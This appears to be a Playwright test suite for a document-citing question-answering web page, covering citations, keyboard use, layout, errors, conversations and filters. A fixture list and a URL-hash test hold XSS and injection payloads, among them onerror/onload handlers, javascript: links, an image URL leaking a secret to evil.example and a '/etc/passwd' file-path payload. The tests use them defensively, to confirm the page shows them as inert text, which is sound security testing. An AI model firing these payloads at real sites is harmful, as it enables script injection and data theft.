"""The real page in a real Chromium, over a real library. `visit` fails a test on any fault."""

import json
import re
import time
import threading
from pathlib import Path

import pytest
from playwright.sync_api import Locator, Page, expect

from assistant.types import Account
from corpus.types import BylineError, Filters
from ui import cite
from ui.conversations import Conversations
from ui.desk import AT_ONCE

GAZETTE = (
    "Bridge closed\n\nThe Harbour Bridge is closed, the mayor said on Tuesday.\n\n"
    + "The council met in the old town hall and talked of other matters at length. " * 60
    + "\n\nEngineers told the council that the bridge is safe.\n\n"
    + "Nothing more was decided that evening, and the meeting ended late. " * 60
)
CLOSED = "The Harbour Bridge is closed, the mayor said on Tuesday."
SAFE = "Engineers told the council that the bridge is safe."
NOTES = "Rebels of the rowing club say they will not leave the quay. 𝔘 The end."
ROWING = "Rebels of the rowing club say they will not leave the quay."

# What documents, titles, file names and questions can hold, and the page must show as it is.
HOSTILE = [
    '<img src=x onerror="document.title=1;alert(1)">',
    '![" onerror="alert(1)](x)',
    "${alert(1)} {{value}} {{{value}}} {% raw %} <%= 1 %> #{1}",
    "[x](http://evil.example/) <http://evil.example/a> http://evil.example/b www.evil.example a@evil.example",
    "![](https://evil.example/?q=secret) ![a][b]\n\n[b]: https://evil.example/c",
    "[click](javascript:alert(1)) javascript:alert(1)",
    "$$latex$$ $x$ \\(x\\) \\[y\\] \\begin{equation}x\\end{equation}",
    '<script>alert(1)</script><style>*{display:none}</style><iframe src="https://evil.example/"></iframe>',
    "# head\n* list\n1. one\n> quote\n```js\nalert(1)\n```\n---\n| a | b |\n|---|---|\n| 1 | 2 |",
    "```mermaid\ngraph TD\n```\n~~x~~ **b** _i_ `c` :smile: <thinking>x</thinking>",
    "runs  of   spaces\tand tabs\n\nand lines\n    indented \u00a0 end  ",
    "Windows lines\r\nend like this\rand old ones like that",
    "\u202ereversed\u202c \u2067isolate\u2069 \u200f\u200e \u061c never closed \u202e",
    "hidden \U000e0049\U000e0067\U000e006e tags, \u200bzero\u200dwidth\ufeff, \u2028\u2029\u0085 separators",
    "&amp; &#60;b&#62; &lt;i&gt; &nbsp; &#128;",
    '</span></blockquote></div></div><a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    "\x1b]0;owned\x07 \x01\x7f\x80\x9f controls",
    "👩‍👩‍👧 𝔘𝔫𝔦 e\u0301 \ufffd \uffff \U0010ffff",
    '{"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}',
    '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg><math><mtext></mtext></math>',
]
HOSTILE_TITLE = '<img src=x onerror="alert(1)">${alert(1)} **t** [x](javascript:alert(1)) \u202e'


@pytest.fixture(scope="module")
def library(build, tmp_path_factory):
    lines = [
        {"id": "gazette", "title": "Bridge closed", "text": GAZETTE, "source": "Harbour Gazette",
         "published": "2016-11-29", "uri": "https://example.org/bridge"},
        {"id": "notes", "text": NOTES},
        {"id": "going", "title": "Going", "text": "This one will be removed."},
        {"id": "spoilt", "title": "Spoilt", "text": "This one will be damaged."},
        {"id": "long", "title": "Long", "text": "A line of text that is like the others.\n" * 9_000},
        {"id": "hostile", "title": HOSTILE_TITLE, "source": HOSTILE_TITLE, "text": "\n\n".join(HOSTILE),
         "uri": "javascript:alert(1)"},
    ]  # fmt: skip
    return build(tmp_path_factory.mktemp("page"), {"news.jsonl": "\n".join(map(json.dumps, lines))})


@pytest.fixture(scope="module")
def server(library, stand_in, serve_page):
    return serve_page(
        stand_in(library),
        banner=f"This is the sample. {HOSTILE_TITLE}",
        starters=["Is the bridge safe?", HOSTILE_TITLE],
    )


@pytest.fixture
def bridge(library, say):
    """An answer of three claims from two documents."""
    claims = (
        say.claim(library, "gazette", CLOSED),
        say.claim(library, "gazette", SAFE),
        say.claim(library, "notes", ROWING),
    )
    return lambda question: say.answer(question, claims, documents=2)


def ask(page: Page, question: str) -> Locator:
    """Asks, and returns the answer (or the problem) once it is drawn."""
    replies = page.locator(".answer, .problem")
    before = replies.count()
    page.locator("#question textarea").fill(question)
    page.keyboard.press("Enter")
    expect(replies).to_have_count(before + 1)
    return replies.last


def open_page(server, visit, answers, **where) -> Page:
    server.assistant.answers = answers
    theme = where.pop("theme", "light")
    return visit(f"{server.url}/?__theme={theme}", **where)


def test_the_empty_page(server, visit, bridge, library):
    page = open_page(server, visit, bridge)
    expect(page.locator("#holdings")).to_have_text(f"{len(library.documents())} documents, newest 2016-11-29")
    expect(page.locator("#banner")).to_have_text(f"This is the sample. {HOSTILE_TITLE}")
    expect(page.get_by_label("Ask your documents")).to_be_visible()
    expect(page.locator("#source")).to_be_hidden()
    expect(page.locator("#card")).to_be_hidden()
    assert page.title() == "Byline"


def test_opening_the_page_leaves_no_event_in_the_queue(server, visit, bridge):
    """An event that ends while a question is sent can take the question's stream with it."""
    page = open_page(server, visit, bridge)
    queued: list[str] = []
    page.on("request", lambda request: "/queue/" in request.url and queued.append(request.url))
    with page.expect_response(lambda response: "/gradio_api/run/" in response.url):
        page.reload()
    page.wait_for_timeout(300)
    assert queued == []
    ask(page, "Is it closed?")
    assert queued != []


def test_a_starter_is_asked_on_click(server, visit, bridge):
    page = open_page(server, visit, bridge)
    page.get_by_role("button", name="Is the bridge safe?").click()
    expect(page.locator(".question")).to_have_text("Is the bridge safe?")
    expect(page.locator(".claim")).to_have_count(3)
    expect(page.locator("#starters")).to_be_hidden()


def test_an_answer_quotes_and_cites(server, visit, bridge):
    page = open_page(server, visit, bridge)
    answer = ask(page, "Is the bridge safe?")
    expect(page.locator("#question textarea")).to_have_value("")
    assert answer.locator(".verbatim").all_text_contents() == [CLOSED, SAFE, ROWING]
    assert answer.locator(".chip").all_text_contents() == [f"Open source [{n}]" for n in (1, 2, 3)]
    expect(answer.get_by_role("link", name="Open source [2]")).to_be_visible()
    expect(answer.locator(".source")).to_have_text(["Bridge closed · 2016-11-29", "notes · undated"])
    # No message is named by its own HTML, which a screen reader would read aloud.
    expect(page.locator('#chat [aria-label*="<"]')).to_have_count(0)


def test_searching_is_said_at_once_and_again_later(server, visit, bridge):
    go = threading.Event()
    page = open_page(server, visit, lambda question: go.wait(10) and bridge(question))
    page.locator("#question textarea").fill("Is the bridge safe?")
    page.keyboard.press("Enter")
    expect(page.locator(".stage")).to_have_text("Searching…")
    expect(page.locator(".question")).to_have_text("Is the bridge safe?")
    go.set()
    expect(page.locator(".answer")).to_be_visible()
    expect(page.locator(".stage")).to_have_count(0)


def test_that_a_question_has_gone_is_said_before_the_server_answers(server, visit, bridge):
    page = open_page(server, visit, bridge)
    held = []
    page.route("**/gradio_api/queue/join*", lambda route: held.append(route))
    sent = page.locator("#sent")
    page.keyboard.press("Enter")  # of an empty box
    expect(sent).to_be_hidden()
    page.locator("#question textarea").fill("Is the bridge safe?")
    page.keyboard.press("Shift+Enter")
    expect(sent).to_be_hidden()
    page.keyboard.press("Enter")
    expect(sent).to_have_text("Searching…")
    expect(sent).to_be_visible()
    until = time.monotonic() + 10
    while not held and time.monotonic() < until:  # it is said before the question is on its way
        page.wait_for_timeout(20)
    held[0].continue_()
    expect(page.locator(".answer")).to_be_visible()
    expect(sent).to_be_hidden()


def test_a_citation_opens_at_its_sentence(server, visit, bridge, library):
    page = open_page(server, visit, bridge)
    answer = ask(page, "Is the bridge safe?")
    answer.locator(".chip").nth(1).click()
    mark = page.locator("#source mark")
    expect(mark).to_have_text(SAFE)
    expect(mark).to_be_in_viewport(ratio=1)
    expect(page.locator("#source-title")).to_have_text("Bridge closed")
    expect(page.locator("#source-particulars")).to_have_text("Harbour Gazette, 2016-11-29")
    expect(page.locator("#source-original a")).to_have_attribute("href", "https://example.org/bridge")
    assert page.locator("#source-text").text_content() == library.text(library.named("gazette").id)
    expect(page.locator(".chip.active")).to_have_text("Open source [2]")
    # In the middle of what is seen of the document, not at its edge.
    box, place = page.locator("#source-scroll").bounding_box(), mark.bounding_box()
    off = place["y"] + place["height"] / 2 - box["y"] - box["height"] / 2
    assert abs(off) < 0.1 * box["height"]


def test_what_the_page_prints_stands_beside_the_quote_and_never_for_it(server, visit, bridge, monkeypatch):
    monkeypatch.setattr(cite, "printed", lambda library, document, span, quote: f"<b>Engi-\n{quote}" if quote == SAFE else None)
    page = open_page(server, visit, bridge)
    answer = ask(page, "Is the bridge safe?")
    answer.locator(".chip").nth(1).click()
    printed = page.locator("#source-printed")
    expect(printed.locator("p")).to_have_text(f"<b>Engi-\n{SAFE}")
    expect(printed.locator("summary")).to_have_text("As printed:")
    expect(page.locator("#source mark")).to_have_text(SAFE)
    answer.locator(".chip").nth(0).click()
    expect(page.locator("#source mark")).to_have_text(CLOSED)
    expect(printed).to_be_hidden()


def test_offsets_count_code_points(server, visit, library, say):
    page = open_page(
        server, visit, lambda question: say.answer(question, (say.claim(library, "notes", "The end."),))
    )
    ask(page, "When?").locator(".chip").click()
    expect(page.locator("#source mark")).to_have_text("The end.")
    assert page.locator("#source-before").text_content() == NOTES.removesuffix("The end.")


def test_previous_and_next_citation(server, visit, bridge):
    page = open_page(server, visit, bridge)
    ask(page, "Is the bridge safe?").locator(".chip").first.click()
    expect(page.locator("#source mark")).to_have_text(CLOSED)
    expect(page.locator("#source-place")).to_have_text("Source 1 of 3")
    expect(page.locator("#source-previous")).to_be_disabled()
    page.get_by_role("button", name="Next citation").click()
    expect(page.locator("#source mark")).to_have_text(SAFE)
    page.get_by_role("button", name="Next citation").click()
    expect(page.locator("#source mark")).to_have_text(ROWING)
    expect(page.locator("#source-title")).to_have_text("notes")
    expect(page.locator("#source-particulars")).to_have_text("source not stated, undated")
    expect(page.locator("#source-original")).to_be_hidden()
    expect(page.locator("#source-next")).to_be_disabled()
    page.get_by_role("button", name="Previous citation").click()
    expect(page.locator("#source mark")).to_have_text(SAFE)
    expect(page.locator(".chip.active")).to_have_text("Open source [2]")


def test_keys(server, visit, bridge):
    page = open_page(server, visit, bridge)
    answer = ask(page, "Is the bridge safe?")
    box = page.locator("#question textarea")
    page.keyboard.type("2/1")
    expect(box).to_have_value("2/1")  # while typing, keys are text
    box.fill("")
    box.blur()
    page.keyboard.press("2")
    expect(page.locator("#source mark")).to_have_text(SAFE)
    expect(page.locator("#source")).to_be_focused()
    page.keyboard.press("1")
    expect(page.locator("#source mark")).to_have_text(CLOSED)
    page.keyboard.press("9")
    expect(page.locator("#source mark")).to_have_text(CLOSED)
    page.keyboard.press("Escape")
    expect(page.locator("#source")).to_be_hidden()
    expect(answer.locator(".chip").first).to_be_focused()
    expect(page.locator("#card")).to_be_hidden()
    expect(page.locator(".chip.active")).to_have_count(0)
    assert "#" not in page.url and "?__theme=light" in page.url
    page.keyboard.press("/")
    expect(box).to_be_focused()
    expect(box).to_have_value("")


def test_the_keyboard_alone_is_enough(server, visit, bridge):
    page = open_page(server, visit, bridge)
    answer = ask(page, "Is the bridge safe?")
    answer.locator(".chip").first.focus()
    page.keyboard.press("Tab")
    expect(answer.locator(".around summary").first).to_be_focused()
    page.keyboard.press("Tab")
    expect(answer.locator(".chip").nth(1)).to_be_focused()
    expect(page.locator("#card-quote")).to_have_text(f"“{SAFE}”")
    page.keyboard.press("Enter")
    expect(page.locator("#source mark")).to_have_text(SAFE)
    expect(page.locator("#card")).to_be_hidden()
    page.keyboard.press("Escape")
    expect(answer.locator(".chip").nth(1)).to_be_focused()


def test_the_card_on_hover(server, visit, bridge):
    page = open_page(server, visit, bridge)
    answer = ask(page, "Is the bridge safe?")
    answer.locator(".chip").nth(1).hover()
    expect(page.locator("#card-title")).to_have_text("Bridge closed")
    expect(page.locator("#card-date")).to_have_text("Harbour Gazette, 2016-11-29")
    expect(page.locator("#card-quote")).to_have_text(f"“{SAFE}”")
    page.locator("#card").hover()  # it can be reached, to select words in it
    expect(page.locator("#card")).to_be_visible()
    page.locator(".masthead").hover()
    expect(page.locator("#card")).to_be_hidden()
    answer.locator(".source").last.hover()
    expect(page.locator("#card-title")).to_have_text("notes")
    page.keyboard.press("Escape")
    expect(page.locator("#card")).to_be_hidden()


def test_the_box_stays_in_sight(server, visit, bridge):
    page = open_page(server, visit, bridge, height=600)
    for number in range(3):
        ask(page, f"Is the bridge safe? {number}")
    assert page.evaluate("document.documentElement.scrollHeight") > 1_000
    expect(page.get_by_label("Ask your documents")).to_be_in_viewport(ratio=1)
    expect(page.locator(".question").last).to_be_in_viewport(ratio=1)  # an answer is read from its start
    page.evaluate("scrollTo(0, 0)")
    expect(page.get_by_label("Ask your documents")).to_be_in_viewport(ratio=1)


def test_a_tap_opens_the_sheet(server, visit, bridge):
    page = open_page(server, visit, bridge, width=390, height=844, has_touch=True, is_mobile=True)
    answer = ask(page, "Is the bridge safe?")
    answer.locator(".chip").nth(2).tap()
    expect(page.locator("#source mark")).to_have_text(ROWING)
    expect(page.locator("#source mark")).to_be_in_viewport(ratio=1)
    expect(page.locator("#card")).to_be_hidden()
    sheet = page.locator("#source").bounding_box()
    assert sheet["x"] == 0 and sheet["width"] == 390
    assert sheet["height"] <= 0.6 * 844 + 1 and sheet["y"] + sheet["height"] == pytest.approx(844, abs=1)
    chip = answer.locator(".chip").nth(2).bounding_box()
    assert chip["y"] + chip["height"] <= sheet["y"]  # the sentence it belongs to is not covered
    page.get_by_role("button", name="Close the source").tap()
    expect(page.locator("#source")).to_be_hidden()


def test_an_address_opens_by_itself_and_survives(server, visit, bridge):
    page = open_page(server, visit, bridge)
    ask(page, "Is the bridge safe?").locator(".chip").nth(1).click()
    expect(page.locator("#source mark")).to_have_text(SAFE)
    address = page.url
    ask(page, "And now?")
    expect(page.locator("#source mark")).to_have_text(SAFE)
    again = visit(address)  # no answer here: the address alone is enough
    expect(again.locator("#source mark")).to_have_text(SAFE)
    expect(again.locator("#source mark")).to_be_in_viewport(ratio=1)
    again.evaluate("location.hash = '#cite=1:0-5:0123456789ab'")
    expect(again.locator("#source-message")).to_contain_text("nothing is highlighted")
    expect(again.locator("#source-text")).to_be_hidden()
    again.evaluate("location.hash = '#cite=%22><img src=x onerror=alert(1)>'")
    expect(again.locator("#source-message")).to_contain_text("does not name a passage")
    again.evaluate("location.hash = ''")
    expect(again.locator("#source")).to_be_hidden()


def test_a_removed_document_says_so(server, visit, library, say):
    claims = (say.claim(library, "going", "This one will be removed."), say.claim(library, "notes", ROWING))
    page = open_page(server, visit, lambda question: say.answer(question, claims))
    answer = ask(page, "What goes?")
    answer.locator(".chip").first.click()
    expect(page.locator("#source mark")).to_have_text("This one will be removed.")
    with library.writing() as writer:
        writer.remove([claims[0].document.id])
    page.get_by_role("button", name="Next citation").click()
    expect(page.locator("#source mark")).to_have_text(ROWING)
    page.get_by_role("button", name="Previous citation").click()
    expect(page.locator("#source-message")).to_contain_text("was removed from the library on 20")
    expect(page.locator("#source-text")).to_be_hidden()
    assert "removed." not in page.locator("#source-text").text_content()


def test_a_damaged_document_is_not_shown(server, visit, library, say):
    claim = say.claim(library, "spoilt", "This one will be damaged.")
    page = open_page(server, visit, lambda question: say.answer(question, (claim,)))
    answer = ask(page, "What is spoilt?")
    with library.transaction() as db:
        db.execute(
            "UPDATE parts SET text = 'This one was not damaged.' WHERE document_id = ?",
            (int(claim.document.id),),
        )
    answer.locator(".chip").click()
    expect(page.locator("#source-message")).to_contain_text("damaged")
    assert page.locator("#source-text").text_content() == ""


def test_a_long_document_is_cut_and_says_so(server, visit, library, say):
    document = library.named("long")
    text = library.text(document.id)
    claim = say.claim(library, "long", text[200_001:200_040])
    start = 40 * 5_000
    claim = type(claim)(
        type(claim.quote)(document.id, start, start + 39), text[start : start + 39], document, 1.0
    )
    page = open_page(server, visit, lambda question: say.answer(question, (claim,)))
    ask(page, "Which line?").locator(".chip").click()
    expect(page.locator("#source mark")).to_have_text(claim.text)
    expect(page.locator("#source mark")).to_be_in_viewport(ratio=1)
    expect(page.locator("#source-before-note")).to_have_text("… the text before this is left out")
    expect(page.locator("#source-after-note")).to_have_text("the text after this is left out …")
    assert page.locator("#source-text").text_content() == text[start - 100_000 : start + 39 + 100_000]


def test_not_in_your_documents(server, visit, library, say):
    near = (say.claim(library, "notes", ROWING), say.claim(library, "gazette", SAFE))
    page = open_page(
        server, visit, lambda question: say.answer(question, nearest=near, searched=6, newest="2016-11-29")
    )
    answer = ask(page, "Who won the cup?")
    expect(answer).to_contain_text("Not in your documents.")
    expect(answer).to_contain_text("Searched 6 documents, the newest of 2016-11-29")
    expect(answer.locator(".nearest .label")).to_have_text("Nearest passages, not an answer")
    assert answer.locator(".nearest .verbatim").all_text_contents() == [ROWING, SAFE]
    answer.locator(".chip").last.click()
    expect(page.locator("#source mark")).to_have_text(SAFE)


def test_accounts_that_differ(server, visit, library, say):
    claims = (say.claim(library, "gazette", CLOSED), say.claim(library, "gazette", SAFE))
    accounts = (Account("closed", (0,)), Account("safe", (1,)))
    page = open_page(
        server, visit, lambda question: say.answer(question, claims, accounts=accounts, differ=True)
    )
    columns = ask(page, "How is the bridge?").locator(".account")
    left, right = columns.first.bounding_box(), columns.last.bounding_box()
    assert left["y"] == right["y"] and left["x"] + left["width"] <= right["x"]


@pytest.mark.parametrize(
    ("error", "said"),
    [
        (BylineError(f"{HOSTILE_TITLE}.txt cannot be read"), f"{HOSTILE_TITLE}.txt cannot be read"),
        (KeyError("secret"), "Something went wrong inside Byline"),
    ],
)  # fmt: skip
def test_errors_are_sentences(server, visit, bridge, error, said):
    def fail(question):
        raise error

    page = open_page(server, visit, fail)
    problem = ask(page, "Is the bridge safe?")
    assert said in problem.text_content()
    assert "Traceback" not in page.content() and "secret" not in page.content()
    server.assistant.answers = bridge
    expect(ask(page, "And now?").locator(".claim")).to_have_count(3)  # the page goes on


def test_one_that_is_not_taken_is_told_and_kept(server, visit, bridge, monkeypatch):
    """As where a crowd asks at one moment."""
    server.assistant.answers = bridge
    monkeypatch.setattr("ui.desk.WAITING", -AT_ONCE)
    page = visit(server.url, refused=True)
    box = page.locator("#question textarea")
    box.fill("Is the bridge closed?")
    box.press("Enter")
    expect(page.get_by_text("Byline is busy")).to_be_visible()
    expect(page.locator("#sent")).to_be_hidden()
    expect(box).to_have_value("Is the bridge closed?")
    monkeypatch.undo()
    box.press("Enter")
    expect(page.locator(".answer")).to_contain_text("The Harbour Bridge is closed")


def test_a_question_that_is_too_long_is_refused_and_kept(server, visit, bridge):
    page = open_page(server, visit, bridge)
    problem = ask(page, "a" * 4_001)
    expect(problem).to_contain_text("4,001 characters, at most 4,000")
    expect(page.locator("#question textarea")).to_have_value("a" * 4_001)
    expect(ask(page, "😀" * 4_000).locator(".claim")).to_have_count(3)
    problem = ask(page, "b" * 300_000)
    expect(problem).to_contain_text("at most 4,000")


def test_hostile_words_are_shown_and_nothing_else(server, visit, library, say):
    document = library.named("hostile")
    claims = tuple(say.claim(library, "hostile", words, copies=(document,)) for words in HOSTILE)
    accounts = (Account(HOSTILE[0], (0,)), Account(HOSTILE[2], (1,)))
    more = {"accounts": accounts, "short_answer": HOSTILE_TITLE, "standalone": HOSTILE[2], "differ": True}
    page = open_page(server, visit, lambda question: say.answer(question, claims, **more))
    question = " ".join(words for words in HOSTILE if "\n" not in words and "\r" not in words)
    answer = ask(page, question)
    answer.locator(".more").evaluate_all("all => all.forEach(more => { more.open = true; })")

    assert page.locator(".question").text_content() == question
    assert answer.locator("blockquote .verbatim").all_text_contents() == HOSTILE
    assert answer.locator("blockquote").all_text_contents() == [f"“{words}”" for words in HOSTILE]
    assert answer.locator(".short").text_content() == HOSTILE_TITLE
    assert answer.locator(".value").all_text_contents() == [HOSTILE[0], HOSTILE[2]]
    assert set(answer.locator(".title").all_text_contents()) == {HOSTILE_TITLE}
    expect(answer.locator(".verbatim").last).to_have_css("white-space-collapse", "preserve")
    _is_inert(page)

    answer.locator(".chip").first.hover()
    expect(page.locator("#card-title")).to_have_text(HOSTILE_TITLE)
    for number, words in enumerate(HOSTILE):
        answer.locator(".chip").nth(number).click()
        expect(page.locator("#source-place")).to_have_text(f"Source {number + 1} of {len(HOSTILE)}")
        assert page.locator("#source mark").text_content() == words
    assert page.locator("#source-text").text_content() == library.text(document.id)
    assert page.locator("#source-title").text_content() == HOSTILE_TITLE
    expect(page.locator("#source-original")).to_be_hidden()
    _is_inert(page)


def _is_inert(page: Page) -> None:
    made = (
        "img, script, style, iframe, svg, math, h1, h2, ul, ol, table, pre, code, em, strong, del, "
        "input, thinking"
    )
    expect(page.locator(".question, .answer, .problem").locator(made)).to_have_count(0)
    expect(
        page.locator("#source, #card").locator(made).and_(page.locator(":not(#source-title)"))
    ).to_have_count(0)
    hrefs = page.locator("#chat a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    assert hrefs and all(href.startswith(("#cite=", "/export?c=")) for href in hrefs)
    assert page.title() == "Byline"


def test_hostile_starters_are_words(server, visit, bridge):
    page = open_page(server, visit, bridge)
    page.locator("#starters button").last.click()
    expect(page.locator(".claim")).to_have_count(3)
    assert page.locator(".question").text_content() == HOSTILE_TITLE


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_it_fits_and_can_be_read(server, visit, library, say, bridge, theme):
    page = open_page(server, visit, bridge, theme=theme)
    _fits_and_can_be_read(page)
    ask(page, "Is the bridge safe? " + "x" * 200)
    near = (say.claim(library, "notes", ROWING),)
    server.assistant.answers = lambda question: say.answer(
        question, nearest=near, searched=6, newest="2016-11-29"
    )
    ask(page, "Who won the cup?")
    ask(page, "a" * 4_001)
    _fits_and_can_be_read(page)
    page.locator(".answer").first.locator(".chip").nth(1).click()
    expect(page.locator("#source mark")).to_have_text(SAFE)
    _fits_and_can_be_read(page)
    page.keyboard.press("Escape")
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("Shift+Tab")
    expect(page.locator("#card")).to_be_visible()
    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    _fits_and_can_be_read(page)


def _fits_and_can_be_read(page: Page) -> None:
    """No sideways scrolling, and a contrast of at least 4.5:1 (WCAG 2.2, 1.4.3) of every text."""
    for width in (320, 390, 768, 1280):
        page.set_viewport_size({"width": width, "height": 800})
        assert page.evaluate("document.documentElement.scrollWidth") <= width
    assert page.evaluate(CONTRAST) == []


CONTRAST = (Path(__file__).parent / "contrast.js").read_text("utf-8")


LIGHT, DARK = "rgb(255, 254, 251)", "rgb(22, 21, 20)"


@pytest.mark.parametrize(
    ("query", "system", "paper"),
    [("", "dark", DARK), ("?__theme=dark", "light", DARK), ("?__theme=light", "dark", LIGHT)],
)
def test_dark_where_the_system_or_the_address_says_so(server, visit, bridge, query, system, paper):
    server.assistant.answers = bridge
    page = visit(f"{server.url}/{query}", color_scheme=system)
    for part in ("body", ".gradio-container", "#source", "#card"):
        expect(page.locator(part)).to_have_css("background-color", paper)


def test_motion_is_reduced_where_asked(server, visit, bridge):
    page = open_page(server, visit, bridge, reduced_motion="reduce")
    ask(page, "Is the bridge safe?").locator(".chip").first.click()
    expect(page.locator("#source mark")).to_have_text(CLOSED)
    moving = "document.getAnimations().filter(a => a.effect.getComputedTiming().activeDuration > 0).length"
    assert page.evaluate(moving) == 0


# ---- Stages, conversations, filters, tools ------------------------------------------------------


def test_reading_is_said_and_can_be_stopped(server, visit, bridge, stand_in, monkeypatch):
    go, plain = threading.Event(), stand_in.ask

    def slow(self, question, *, found=None, **more):
        given = plain(self, question, found=found, **more)
        go.wait(20)
        found(given.claims)
        return given

    page = open_page(server, visit, bridge)
    monkeypatch.setattr(stand_in, "ask", slow)
    page.locator("#question textarea").fill("Is the bridge safe?")
    page.keyboard.press("Enter")
    expect(page.locator(".stage")).to_have_text("Reading 3 sentences…")
    page.get_by_role("button", name="Stop").click()
    expect(page.locator(".stopped")).to_contain_text("Stopped. The question was not answered.")
    assert page.locator(".stopped .nearest .verbatim").all_text_contents() == [CLOSED, SAFE, ROWING]
    expect(page.get_by_role("button", name="Stop")).to_have_count(0)
    go.set()
    monkeypatch.undo()
    expect(ask(page, "And now?").locator(".claim")).to_have_count(3)
    expect(page.locator(".stopped")).to_have_count(1)  # what has arrived is kept


def test_a_conversation_is_kept_reopened_renamed_and_removed(server, visit, bridge):
    page = open_page(server, visit, bridge)
    ask(page, "Is the bridge safe?")
    ask(page, f"{HOSTILE_TITLE} why?")
    assert server.assistant.asked[-1][1] == (("Is the bridge safe?", f"{CLOSED} {SAFE}"),)
    expect(page).to_have_url(re.compile(r"[?&]c=[0-9a-f]{32}"))
    again = visit(page.url)
    expect(again.locator(".answer")).to_have_count(2)
    assert again.locator("#chat blockquote .verbatim").all_text_contents() == [CLOSED, SAFE, ROWING] * 2
    assert again.locator(".question").all_text_contents() == ["Is the bridge safe?", f"{HOSTILE_TITLE} why?"]
    ask(again, "And then?")
    earlier = [question for question, _ in server.assistant.asked[-1][1]]
    assert earlier == ["Is the bridge safe?", f"{HOSTILE_TITLE} why?"]

    again.get_by_role("button", name="Conversations", exact=True).click()
    here = again.locator("#talks-list li").first
    expect(here.locator(".talk-link")).to_have_text("Is the bridge safe?")
    expect(here).to_contain_text("3 questions")
    here.get_by_role("button", name="Rename").click()
    again.get_by_label("Title of the conversation").fill(HOSTILE_TITLE)
    again.keyboard.press("Enter")
    expect(here.locator(".talk-link")).to_have_text(HOSTILE_TITLE.strip())
    expect(again.locator("#talks img")).to_have_count(0)
    here.get_by_role("button", name="Remove").click()
    again.get_by_role("button", name="Keep").click()
    expect(again.locator(".answer")).to_have_count(3)
    again.keyboard.press("Escape")
    expect(again.locator("#talks")).to_be_hidden()
    expect(again.locator("#talks-open")).to_be_focused()
    address = again.url
    again.keyboard.press("Enter")
    here.get_by_role("button", name="Remove").click()
    again.get_by_role("button", name="Remove", exact=True).last.click()
    expect(again.locator("#starters")).to_be_visible()
    assert "c=" not in again.url
    gone = visit(address)
    expect(gone.locator(".problem")).to_contain_text("There is no such conversation here")
    expect(ask(gone, "And now?").locator(".claim")).to_have_count(3)


def test_filters_are_checked_passed_on_and_shown(server, visit, bridge):
    page = open_page(server, visit, bridge)
    page.get_by_role("button", name="Filters").press("Enter")
    expect(page.get_by_label("Source", exact=True)).to_be_focused()
    expect(page.locator("#known-sources option").first).to_have_attribute("value", HOSTILE_TITLE)
    page.get_by_label("Source", exact=True).fill("harbour gazette")
    page.get_by_label("Published until").fill("yesterday")
    expect(ask(page, "Is it safe?")).to_contain_text("The filter “until”")
    expect(page.locator("#question textarea")).to_have_value("Is it safe?")
    page.get_by_label("Published until").fill("2016-12-31")
    page.get_by_role("button", name="Filters (2)").click()
    expect(page.get_by_label("Published until")).to_be_hidden()
    answer = ask(page, "Is it safe?")
    expect(answer.locator(".within")).to_have_text("Only: source harbour gazette; published until 2016-12-31")
    assert server.assistant.asked[-1][2] == Filters("harbour gazette", None, "2016-12-31")


def test_an_answer_is_copied_exported_and_judged(server, visit, bridge, library):
    page = open_page(server, visit, bridge, permissions=["clipboard-read", "clipboard-write"])
    answer = ask(page, "Is the bridge safe?")
    answer.get_by_role("button", name="Copy with sources").click()
    expect(answer.locator(".done")).to_have_text("Copied")
    copied = page.evaluate("navigator.clipboard.readText()")
    assert f"> “{CLOSED}”[^1]" in copied and "SHA-256" in copied
    answer.locator(".export summary").click()
    with page.expect_download() as download:
        answer.get_by_role("link", name="CSV").click()
    assert download.value.suggested_filename == "byline-Is-the-bridge-safe-1.csv"
    answer.get_by_role("button", name="Wrong source").click()
    expect(answer.get_by_role("button", name="Wrong source", pressed=True)).to_be_visible()
    assert Conversations(library).feedback()[-1]["verdict"] == "wrong source"
    again = visit(page.url)
    expect(again.get_by_role("button", name="Wrong source", pressed=True)).to_be_visible()


def test_a_quote_is_shown_in_context(server, visit, bridge):
    answer = ask(open_page(server, visit, bridge), "Is the bridge safe?")
    answer.locator(".around summary").first.click()
    expect(answer.locator(".around mark").first).to_have_text(CLOSED)
    around = answer.locator(".around p").first.text_content()
    assert around.startswith("Bridge closed\n\nThe Harbour") and around.endswith("at length. …")


def test_the_question_as_it_was_read_can_be_edited(server, visit, library, say):
    claims = (say.claim(library, "notes", ROWING),)
    page = open_page(server, visit, lambda question: say.answer(question, claims, standalone=HOSTILE_TITLE))
    ask(page, "and they?").get_by_role("button", name="Edit").click()
    expect(page.locator("#question textarea")).to_have_value(HOSTILE_TITLE)
    expect(page.locator("#question textarea")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator(".question").last).to_have_text(HOSTILE_TITLE.strip())


def test_what_to_ask_next_is_offered_and_asked_on_click(server, visit, bridge, monkeypatch):
    ready = threading.Event()
    offered = {"Is the bridge safe?": ("What did the mayor say?", HOSTILE_TITLE), "What did the mayor say?": ("Why?",)}

    def suggested(asker, answer, **more):
        ready.wait(10)
        return offered.get(answer.question, ())

    monkeypatch.setattr("ui.talks.suggested", suggested)
    page = open_page(server, visit, bridge)
    asked = ask(page, "Is the bridge safe?")
    expect(asked.locator(".claim")).to_have_count(3)  # the answer does not wait for them
    expect(page.locator(".follow-ups")).to_have_count(0)
    ready.set()
    offers = page.get_by_role("group", name="Ask next")
    expect(offers.get_by_role("button")).to_have_count(2)
    assert offers.get_by_role("button").all_text_contents() == ["What did the mayor say?", HOSTILE_TITLE]
    expect(offers).to_have_attribute("aria-live", "off")
    _is_inert(page)
    page.locator("#filters-open").click()
    page.get_by_label("Source", exact=True).fill("Gazette")  # there they may not be answered
    expect(offers).to_have_count(0)
    page.get_by_label("Source", exact=True).fill("")
    page.locator("#filters-open").click()
    offers.get_by_role("button").first.focus()
    page.keyboard.press("Enter")
    expect(page.locator(".question").last).to_have_text("What did the mayor say?")
    expect(page.locator(".answer")).to_have_count(2)
    assert server.assistant.asked[-1][:2] == ("What did the mayor say?", (("Is the bridge safe?", f"{CLOSED} {SAFE}"),))
    expect(page.locator("#question textarea")).to_have_value("")
    expect(page.locator("#question textarea")).to_be_focused()
    expect(page.locator(".follow-up")).to_have_text(["Why?"])  # under the newest answer, and no other
